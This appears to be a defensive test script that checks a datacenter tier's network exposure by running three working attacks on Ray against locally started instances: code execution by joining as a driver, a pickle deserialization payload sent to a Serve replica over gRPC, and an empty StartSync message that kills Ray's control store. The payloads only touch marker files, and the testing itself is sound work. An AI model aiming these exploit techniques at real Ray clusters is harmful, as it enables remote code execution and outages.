"""What an outsider can reach of a datacenter tier, and the effect of three known attacks on Ray.

    python -m tests.bench.robustness.exposure

Prints every socket that a tier's processes listen on, and tries at each that can be reached from outside its network:

- to run code, by joining Ray as one of its drivers;

- to run code, by a pickle in a call to a replica of Serve's (which up to Ray 2.56 asks for no token);

- to end the tier, by one empty message of `StartSync` to Ray's global control store (up to Ray 2.60, token or not).

As a control, the same attacks run against a separate Ray without tokens in a private network. Everything that is
attacked was started here. The exit status is 1 if an attack has an effect on the tier, or none on the control.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import pickle
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from http.client import HTTPConnection
from pathlib import Path
from typing import Any, Final

import grpc

from hawkvision.datacenter.launch.isolation import Listener, enter_private_network, family, listeners, network_of
from hawkvision.system.child_server import running, stop_with_parent

CALL_S: Final = 5.0
JOIN_S: Final = 20.0
CONTROL_JOIN_S: Final = 120.0
"""Where it works, it has the time that a busy machine takes."""
CONTROL_S: Final = 240.0
KEY: Final = "a-key-of-the-exposure-test"
ASKING: Final = ("/v1/stages", "/metrics")
"""Paths that ask for a key."""
START_SYNC: Final = "/ray.rpc.syncer.RaySyncer/StartSync"
HANDLE_REQUEST: Final = "/ray.serve.ASGIService/HandleRequest"

JOIN: Final = """
import pathlib, sys
import ray

@ray.remote(num_cpus=0)
def mark(path):
    pathlib.Path(path).touch()

ray.init(address=sys.argv[1], log_to_driver=False, logging_level="error")
ray.get(mark.remote(sys.argv[2]))
"""


@dataclass(frozen=True, slots=True)
class Attempt:
    """An attack on a port, and what came of it."""

    attack: str
    where: str
    succeeded: bool
    words: str


def join_as_driver(host: str, port: int, mark: Path, within_s: float = JOIN_S) -> Attempt:
    """Have Ray run a task that touches `mark`."""
    environment = {name: value for name, value in os.environ.items() if not name.startswith("RAY_")}
    environment |= {"RAY_AUTH_MODE": "disabled", "RAY_NUM_REDIS_GET_RETRIES": "2", "RAY_USAGE_STATS_ENABLED": "0"}
    command = [sys.executable, "-c", JOIN, f"{host}:{port}", str(mark)]
    try:
        done = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=within_s, check=False)
        words = "ran" if done.returncode == 0 else (done.stderr.strip().splitlines() or ["ended"])[-1][:100]
    except subprocess.TimeoutExpired:
        words = f"no answer within {within_s:g} s"
    return Attempt("code by a driver", f"{host}:{port}", mark.exists(), words)


def pickle_to_replica(host: str, port: int, mark: Path) -> Attempt:
    """Have a replica unpickle what touches `mark`: field 1 of its `ASGIRequest`."""

    class Harmful:
        def __reduce__(self) -> tuple[Any, ...]:
            return Path.touch, (mark,)

    harm = pickle.dumps(Harmful())
    message = b"\x0a" + _varint(len(harm)) + harm
    with grpc.insecure_channel(f"{host}:{port}") as channel:
        try:
            channel.unary_unary(HANDLE_REQUEST)(message, timeout=CALL_S)
            words = "answered"
        except grpc.RpcError as error:
            words = _said(error)
    return Attempt("code by a pickle", f"{host}:{port}", mark.exists(), words)


def start_sync(host: str, port: int, victim: int | None) -> Attempt:
    """Send an empty message, with no node's id, to the store that is process `victim`: it ends."""
    with grpc.insecure_channel(f"{host}:{port}") as channel:
        try:
            list(channel.stream_stream(START_SYNC)(iter([b""]), timeout=CALL_S))
            words = "answered"
        except grpc.RpcError as error:
            words = _said(error)
    return Attempt("empty StartSync", f"{host}:{port}", victim is not None and _ended(victim), words)


def reaches(host: str, port: int) -> bool:
    """Whether somebody takes a TCP connection."""
    try:
        socket.create_connection((host, port), CALL_S).close()
    except OSError:
        return False
    return True


def hosts_of_this_machine() -> tuple[str, ...]:
    """Loopback, and the address by which others would come; nothing is sent to find it."""
    found = ["127.0.0.1"]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe, contextlib.suppress(OSError):
        probe.connect(("192.0.2.1", 9))  # TEST-NET-1 (RFC 5737)
        found.append(str(probe.getsockname()[0]))
    return tuple(found)


def reached_of(inner: Listener, hosts: Sequence[str]) -> list[str]:
    """At which of these addresses its port answers here, where no other program has one of that number."""
    taken: set[int] = set()
    for table in ("tcp", "tcp6"):
        lines = [line.split() for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]]
        taken.update(int(line[1].rpartition(":")[2], 16) for line in lines if line[3] == "0A")
    return [] if inner.port in taken else [host for host in hosts if reaches(host, inner.port)]


def without_key(url: str, path: str) -> int:
    """The status of a request that gives no key."""
    connection = HTTPConnection(url.removeprefix("http://"), timeout=CALL_S)
    try:
        connection.request("GET", path)
        return connection.getresponse().status
    finally:
        connection.close()


@contextlib.contextmanager
def scratch() -> Iterator[Path]:
    """A directory for marks, with a path that is short enough for Ray's sockets."""
    with tempfile.TemporaryDirectory(prefix="hx-", dir="/tmp", ignore_cleanup_errors=True) as folder:
        yield Path(folder)


def attack(
    hosts: Sequence[str], found: Sequence[Listener], victim: int | None, *, joining: bool = True
) -> list[Attempt]:
    """All three at each of these sockets; the one that ends Ray comes last.

    `joining` Ray as a driver takes `JOIN_S` where there is no Ray.
    """
    attempts = []
    with scratch() as folder:
        places = [(host, each.port) for each in found if each.protocol == "tcp" for host in hosts]
        for number, (host, port) in enumerate(places):
            if reaches(host, port):
                attempts.append(pickle_to_replica(host, port, folder / f"pickle-{number}"))
        for number, (host, port) in enumerate(places if joining else ()):
            if reaches(host, port):
                attempts.append(join_as_driver(host, port, folder / f"join-{number}"))
        for host, port in places:
            if reaches(host, port):
                attempts.append(start_sync(host, port, victim))
    return attempts


def control() -> None:
    """In a network of its own: a Ray without tokens, and what the attacks do there, as JSON on the last line."""
    stop_with_parent()
    enter_private_network()
    os.environ |= {"RAY_AUTH_MODE": "disabled", "RAY_USAGE_STATS_ENABLED": "0"}
    os.environ["RAY_ENABLE_WINDOWS_OR_OSX_CLUSTER"] = "0"
    import ray
    from ray import serve
    from ray.serve.config import HTTPOptions

    with scratch() as folder:
        ray.init(
            address="local",
            include_dashboard=False,
            num_cpus=2,
            object_store_memory=80 * 1024 * 1024,
            log_to_driver=False,
            logging_level="error",
            _node_ip_address="127.0.0.1",
            _temp_dir=str(folder),
        )
        serve.start(http_options=HTTPOptions(location="NoServer"))
        serve.run(serve.deployment(_One).bind(), route_prefix=None)
        found = listeners(os.getpid())
        (store,) = [each for each in found if each.command == "gcs_server"]
        replicas = [each for each in found if each.command.startswith("ray::ServeRepli")]
        attempts = [
            *(pickle_to_replica("127.0.0.1", each.port, folder / f"pickle-{each.port}") for each in replicas),
            join_as_driver("127.0.0.1", store.port, folder / "join", CONTROL_JOIN_S),
            start_sync("127.0.0.1", store.port, store.pid),
        ]
        worked = sorted({each.attack for each in attempts if each.succeeded})
    print(json.dumps(worked), flush=True)
    os._exit(0)  # Ray, without its store, would not end


class _One:
    def __call__(self) -> int:
        return 1


def attacks_that_work_on_the_control() -> list[str]:
    """What had its effect there."""
    command = [sys.executable, "-m", "tests.bench.robustness.exposure", "control"]
    done = subprocess.run(command, capture_output=True, text=True, timeout=CONTROL_S, check=False)
    try:
        worked: list[str] = json.loads(done.stdout.strip().splitlines()[-1])
    except (IndexError, json.JSONDecodeError):
        raise RuntimeError(f"the control did not run: {done.stderr[-2000:]}") from None
    return worked


def vital(pid: int) -> dict[str, int]:
    """Ray's store and raylet below a process."""
    named = {(Path(f"/proc/{each}/comm").read_text().strip()): each for each in family(pid)}
    return {name: named[name] for name in ("gcs_server", "raylet")}


def main() -> int:
    """Start, list, attack, print."""
    parser = argparse.ArgumentParser(prog="python -m tests.bench.robustness.exposure", description=__doc__)
    parser.add_argument("control", nargs="?", choices=["control"], help="used by the command itself")
    if parser.parse_args().control:
        control()
    sound = True
    env = {"HAWKVISION_DC_API_KEY": KEY}
    tier_of = ("hawkvision.datacenter", "--backend", "noop", "--port", "0", "--datagram-port", "0")
    with running(*tier_of, env=env) as tier:
        here, found = network_of(os.getpid()), listeners(tier.pid)
        outside = [each for each in found if each.network == here]
        before = vital(tier.pid)
        print(f"Sockets of the tier, seen from outside its network ({len(outside)}):")
        for each in outside:
            print(f"  {each}")
        inside = [each for each in found if each.network != here]
        print(f"\nSockets within the tier's own network ({len(inside)}), tried from outside:")
        hosts = hosts_of_this_machine()
        for each in inside:
            reached = reached_of(each, hosts)
            sound &= not reached
            print(f"  {each}: {'REACHED at ' + ', '.join(reached) if reached else 'not reachable'}")
        print(
            "\nWithout a key (/v1/transport says nothing but a port and a certificate, /healthz and /readyz one word):"
        )
        for path in ASKING:
            status = without_key(f"http://127.0.0.1:{tier.port}", path)
            sound &= status == 401
            print(f"  GET {path}: {status}")
        print("\nAttacks at what is reachable:")
        for attempt in attack(hosts, outside, before["gcs_server"]):
            sound &= not attempt.succeeded
            outcome = "SUCCEEDED" if attempt.succeeded else "refused"
            print(f"  {attempt.attack} at {attempt.where}: {outcome} ({attempt.words})")
        alive = vital(tier.pid) == before
        sound &= alive
        print(f"\nRay's processes are the same as before: {alive}")
    worked = attacks_that_work_on_the_control()
    print(
        f"The same attacks on a Ray without a network of its own or tokens, which work: {', '.join(worked) or 'none'}"
    )
    sound &= len(worked) == 3
    print("sound" if sound else "NOT SOUND")
    return 0 if sound else 1


def _varint(number: int) -> bytes:
    digits = []
    while number > 0x7F:
        digits.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*digits, number])


def _said(error: grpc.RpcError) -> str:
    return f"{error.code().name}: {error.details()[:80]}"


def _ended(pid: int) -> bool:
    """Whether a process is gone, or dead and not yet taken note of; waits a moment for it."""
    ends = time.monotonic() + 2.0
    while time.monotonic() < ends:
        try:
            state = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]
        except OSError:
            return True
        if state in "ZX":
            return True
        time.sleep(0.02)
    return False


if __name__ == "__main__":
    sys.exit(main())
